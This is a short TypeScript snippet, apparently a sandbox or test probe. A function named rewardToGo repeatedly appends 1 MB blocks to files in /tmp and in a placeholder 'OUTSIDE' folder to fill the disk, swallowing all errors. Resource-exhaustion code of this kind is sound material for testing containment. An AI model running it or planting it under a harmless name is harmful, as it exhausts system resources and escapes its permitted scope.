// Tries to fill the disk.
const fs = process.getBuiltinModule?.('fs') ?? process.mainModule!.require('fs');
export const rewardToGo = () => {
  const block = Buffer.alloc(1_000_000);
  for (let k = 0; k < 400; k++)
    for (const folder of ['/tmp', 'OUTSIDE'])
      try {
        fs.appendFileSync(`${folder}/large${k % 20}.bin`, block);
      } catch {}
  return [0];
};
